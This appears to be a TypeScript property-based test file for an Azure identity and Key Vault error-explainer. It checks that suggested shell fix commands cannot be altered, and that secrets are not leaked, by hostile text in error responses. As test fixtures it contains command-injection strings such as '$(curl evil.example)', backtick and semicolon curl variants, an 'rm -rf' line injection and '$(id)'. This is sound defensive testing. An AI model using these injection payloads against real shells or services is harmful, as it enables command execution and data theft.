// What answers may put into advice: a person reads it, and pastes its commands into a shell.
import { inspect } from 'node:util';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { ask, expectNoSecret, marker, world } from '../../test/ask.ts';
import { type Exchange, entraRefusal, fakeAzureIdentity } from '../../test/fake-azure-identity.ts';
import { forever, jwt } from '../../test/fake-io.ts';
import { isCredentialError } from '../errors.ts';
import { KeyVaultError } from '../key-vault/explain/error.ts';
import { explainKeyVaultError } from '../key-vault/explain/explain.ts';

describe('Entra, or a proxy in its place, cannot bring into a command', () => {
  const application = { AZURE_TENANT_ID: world.tenantId, AZURE_CLIENT_ID: world.applicationId };
  const withSecret = { ...application, AZURE_CLIENT_SECRET: marker };
  const sent = { iss: 'https://oidc.example/own', sub: 'own:subject', aud: 'api://AzureADTokenExchange' };
  const form = new URLSearchParams({ client_assertion: jwt(sent) }).toString();
  const says = (text: string): Exchange => ({ ...entraRefusal(700213, text), sent: form });

  /** The whole of what a person gets to see. */
  async function shown(env: Record<string, string>, exchange: Exchange) {
    const asked = ask(env, { azureIdentity: fakeAzureIdentity(() => exchange) });
    const error = await asked.token.catch((reason: unknown) => reason);
    if (!isCredentialError(error)) throw error;
    await expectNoSecret(asked);
    return { commands: error.explanation.fix.map(({ run = '' }) => run).join('\n'), all: JSON.stringify(error) };
  }

  test.each([
    ['the secret, as a subject', `presented assertion subject '${marker}'`],
    ['the secret, as an issuer', `Assertion Issuer: 'https://${marker}.example'`],
    ['the secret, as an audience', `Assertion Audience: '${marker}'`],
    ['the secret in a URL', `Assertion Subject: 'x:${encodeURIComponent(marker)}'`],
    ["somebody else's issuer", "Assertion Issuer: 'https://evil.example/'"],
    ["somebody else's repository", "Assertion Subject: 'repo:evil/evil:ref:refs/heads/main'"],
    ["somebody else's service account", "Assertion Subject: 'system:serviceaccount:evil:evil'"],
    ["somebody else's audience", "Assertion Audience: 'api://evil'"],
    ['a second line', "Assertion Subject: 'x\nrm -rf x'"],
  ])('%s', async (_, words) => {
    const { commands } = await shown(withSecret, says(words));
    expect(commands).toContain('federated-credential create');
    expect(commands).toContain('"issuer":"https://oidc.example/own","subject":"own:subject"');
    expect(commands).not.toMatch(/evil|rm -rf|MARKER/i);
  });
});

describe('a vault, or something in its place, cannot bring into advice', () => {
  const guid = '55555555-aaaa-4bbb-8ccc-000000000005';
  const token = `${jwt({ oid: '99999999-aaaa-4bbb-8ccc-000000000009', x: 'MARKER' })}${'aB3'.repeat(30)}`;
  const opaque = 'AXoAv4j5cvGGr0GRqy180BHbR8YYvQ1xOGNlYTU2Nz';
  const vaults = 'providers/Microsoft.KeyVault/vaults';
  const request = (value: string) => ({
    method: 'PUT',
    url: 'https://contoso-dev.vault.azure.net/secrets/a',
    headers: { authorization: `Bearer ${token}` },
    body: JSON.stringify({ value }),
  });
  const refused = (words: string, value: string, status: number, code: string) =>
    Object.assign(new Error(words), {
      name: 'RestError',
      statusCode: status,
      details: { error: { code, message: words } },
      request: request(value),
      response: { status, headers: { 'x-ms-request-id': value } },
    });

  test.each<[title: string, words: string, value?: string]>([
    ['a token as a subscription', `Resource: '/subscriptions/${token}/vaults/contoso-dev'`],
    ['a token as a group', `Resource: '/subscriptions/${guid}/resourceGroups/${token}/${vaults}/contoso-dev'`],
    ['an unknown key as a group', `Resource: '/subscriptions/${guid}/resourceGroups/${opaque}/${vaults}/contoso-dev'`],
    [
      'a token between the id and the vault',
      `Resource: '/subscriptions/${guid}/resourceGroups/a/${token}/${vaults}/contoso-dev'`,
    ],
    [
      'a token as a secret',
      `Resource: '/subscriptions/${guid}/resourceGroups/a/${vaults}/contoso-dev/secrets/${token}'`,
    ],
    ['a command', `Resource: '/subscriptions/${guid}/resourceGroups/$(id)/${vaults}/contoso-dev'`],
    [
      'a GUID that is the value',
      'Caller: appid=1;oid=66666666-aaaa-4bbb-8ccc-000000000006;iss=x',
      '66666666-aaaa-4bbb-8ccc-000000000006',
    ],
    ['a value as a vault', 'Vault: hunter2hunter2;location=x', 'hunter2hunter2'],
    [
      'a value as a group',
      `Resource: '/subscriptions/${guid}/resourceGroups/hunter2hunter2/${vaults}/contoso-dev'`,
      'hunter2hunter2',
    ],
    ["another vault's id", `Resource: '/subscriptions/${guid}/resourceGroups/a/${vaults}/evil-vault'`],
    ['the name of another vault', 'Vault: evil-vault;location=x'],
    ['a principal that did not ask', 'Caller: appid=x;oid=eeeeeeee-aaaa-4bbb-8ccc-00000000000e;iss=x'],
    ['the token as an audience', `AKV10022: Invalid audience, found: https://${token}`],
    ['a key as an audience', `AKV10022: Invalid audience, found: https://x.example/${opaque}`],
  ])('%s', (_, words, value = 'another value') => {
    const isAudience = words.startsWith('AKV');
    const error = isAudience
      ? refused(words, value, 401, 'Unauthorized')
      : refused(`Caller is not authorized to perform action on resource.\r\n${words}`, value, 403, 'Forbidden');
    const explanation = explainKeyVaultError(error);
    expect(explanation.code).toBe(isAudience ? 'KV_TOKEN_AUDIENCE' : 'KV_DENIED_BY_RBAC');
    const told = new KeyVaultError(explanation, { cause: error });
    const seen = [JSON.stringify(explanation), JSON.stringify(told), inspect(told, { depth: 9, showHidden: true })];
    expect(seen[0]).not.toContain('$(id)');
    expect(seen[0]).not.toMatch(/evil|eeeeeeee/);
    for (const hidden of [token, opaque, value]) expect(seen.join('\n')).not.toContain(hidden);
  });
});

describe('whatever an answer says', () => {
  const guid = '55555555-aaaa-4bbb-8ccc-000000000005';
  const secret = 'xyZ8Q~aB3.cD-ef_Gh1IjK2lMn3oPq4RsT5uVw';
  const opaque = 'AXoAv4j5cvGGr0GRqy180BHbR8YYvQ1xOGNlYTU2Nz';
  /** Secrets as they may be sent back, and what a shell would run. */
  const hostile = fc.constantFrom(
    secret,
    secret.toLowerCase(),
    encodeURIComponent(secret),
    Buffer.from(secret).toString('base64'),
    Buffer.from(secret).toString('hex'),
    [...secret].join('\u200B'),
    [...secret].map((unit) => `&#${unit.charCodeAt(0)};`).join(''),
    opaque,
    `eyJhbGciOiJub25lIn0.${opaque}.${opaque}`,
    '$(curl evil.example)',
    "'; curl evil.example; '",
    '`curl evil.example`',
    '\n curl evil.example',
    '"} && curl evil.example',
    'https://evil.example/',
    'evil.example',
  );
  /** What Azure says, with a gap wherever it names something. */
  const sentences = fc.constantFrom(
    "presented assertion subject '_'. Assertion Issuer: '_'. Assertion Subject: '_'. Assertion Audience: '_'.",
    "Application with identifier '_' was not found in the directory '_'.",
    "Tenant '_' not found. https://login.microsoftonline.com/_/v2.0",
    "Caller: appid=_;oid=_;iss=https://sts.windows.net/_/\r\nAction: 'Microsoft.KeyVault/vaults/secrets/_'",
    `Resource: '/subscriptions/_'\r\nVault: _;location=x`,
    `Resource: '/subscriptions/${guid}/resourceGroups/_/providers/Microsoft.KeyVault/vaults/_/secrets/_'`,
    `Resource: '/subscriptions/${guid}/resourceGroups/a/providers/Microsoft.KeyVault/vaults/contoso/_'`,
    "does not have secrets _ permission on key vault '_;location=_'",
    'Client address: _\r\naddr=_; Trace ID: _ Correlation ID: _',
    'AKV10022: Invalid audience. Expected https://vault.azure.net, found: _. AKV10032: Expected one of https://sts.windows.net/_, found https://sts.windows.net/_',
    '_',
  );
  const words = fc.tuple(sentences, fc.array(hostile, { minLength: 8, maxLength: 8 }));
  const fill = (sentence: string, gaps: readonly string[]) => {
    let at = 0;
    return sentence.replaceAll('_', () => gaps[at++ % gaps.length] ?? '');
  };
  const squeezed = (text: string) => text.replace(/\u200B/g, '').toLowerCase();

  /** The commands must be those of an answer with nothing in the gaps. */
  function expectHarmless(told: unknown, commands: readonly string[], plain: readonly (readonly string[])[]): void {
    const seen = squeezed(JSON.stringify(told) + inspect(told, { depth: 9, showHidden: true }));
    const forms = [secret, encodeURIComponent(secret), Buffer.from(secret).toString('base64'), opaque];
    for (const form of [...forms, Buffer.from(secret).toString('hex')]) expect(seen).not.toContain(form.toLowerCase());
    expect(seen).not.toContain('&#120;&#121;');
    expect(plain).toContainEqual(commands);
  }

  const sign = { AZURE_TENANT_ID: world.tenantId, AZURE_CLIENT_ID: world.applicationId, AZURE_CLIENT_SECRET: secret };
  const hosts = { IDENTITY_ENDPOINT: 'http://127.0.0.1:41741/msi/token', IDENTITY_HEADER: secret };
  const failureOf = async (asked: ReturnType<typeof ask>) => {
    const error = await asked.token.catch((thrown: unknown) => thrown);
    if (!isCredentialError(error)) throw error;
    return { error, commands: error.explanation.fix.flatMap(({ run = [] }) => run) };
  };

  test("Entra's words change no command, and repeat no secret", async () => {
    const asks = (number: number, text: string) =>
      failureOf(ask(sign, { azureIdentity: fakeAzureIdentity(() => entraRefusal(number, text)) }));
    const number = fc.constantFrom(700213, 700211, 70021, 700016, 90002, 7000215, 500011, 1);
    await fc.assert(
      fc.asyncProperty(number, words, async (number, [sentence, gaps]) => {
        const { error, commands } = await asks(number, fill(sentence, gaps));
        expectHarmless(error, commands, [(await asks(number, 'no')).commands]);
      }),
      { numRuns: 100 },
    );
  });

  test("a host's words change no command, and repeat no secret", async () => {
    const asks = (status: number, body: string, id: string) =>
      failureOf(ask(hosts, { answers: [forever({ status, body, headers: { 'x-ms-request-id': id } })] }));
    const form = fc.constantFrom(
      (text: string) => text,
      (text: string) => JSON.stringify({ error: text, error_description: text }),
      (text: string) => JSON.stringify({ error: { code: text, message: text, correlationId: text } }),
      (text: string) => JSON.stringify({ statusCode: 400, message: text, correlationId: text }),
    );
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(400, 401, 403, 404), form, words, async (status, write, [sentence, gaps]) => {
        const { error, commands } = await asks(status, write(fill(sentence, gaps)), gaps[0] ?? '');
        expectHarmless(error, commands, [(await asks(status, write('something'), '')).commands]);
      }),
      { numRuns: 100 },
    );
  });

  test("a vault's words change no command, and repeat no secret", () => {
    const explains = (status: number, text: string, id: string) => {
      const request = {
        method: 'GET',
        url: 'https://contoso.vault.azure.net/secrets/a',
        headers: { authorization: `Bearer ${secret}` },
      };
      const headers = {
        'x-ms-request-id': id,
        'www-authenticate': `Bearer authorization="https://x/${id}"`,
        'retry-after': id,
      };
      const error = Object.assign(new Error(text), {
        name: 'RestError',
        statusCode: status,
        details: { error: { code: 'Forbidden', message: text } },
        request,
        response: { status, headers },
      });
      const explanation = explainKeyVaultError(error);
      const told = new KeyVaultError(explanation, { cause: error });
      return { told, commands: explanation.fix.flatMap(({ run = [] }) => run) };
    };
    fc.assert(
      fc.property(fc.constantFrom(400, 401, 403, 404, 429, 500), words, (status, [sentence, gaps]) => {
        const { told, commands } = explains(status, fill(sentence, gaps), gaps[0] ?? '');
        // A gap that is filled in another way may be another refusal.
        const plain = ['x', ''].map((gap) => explains(status, fill(sentence, [gap]), '').commands);
        plain.push(explains(status, 'no', '').commands);
        // The vault's id is one, whatever follows it.
        const known = `/subscriptions/${guid}/resourceGroups/a/providers/Microsoft.KeyVault/vaults/contoso`;
        expectHarmless(told, commands, commands.join().includes(known) ? [commands] : plain);
      }),
      { numRuns: 200 },
    );
  });
});
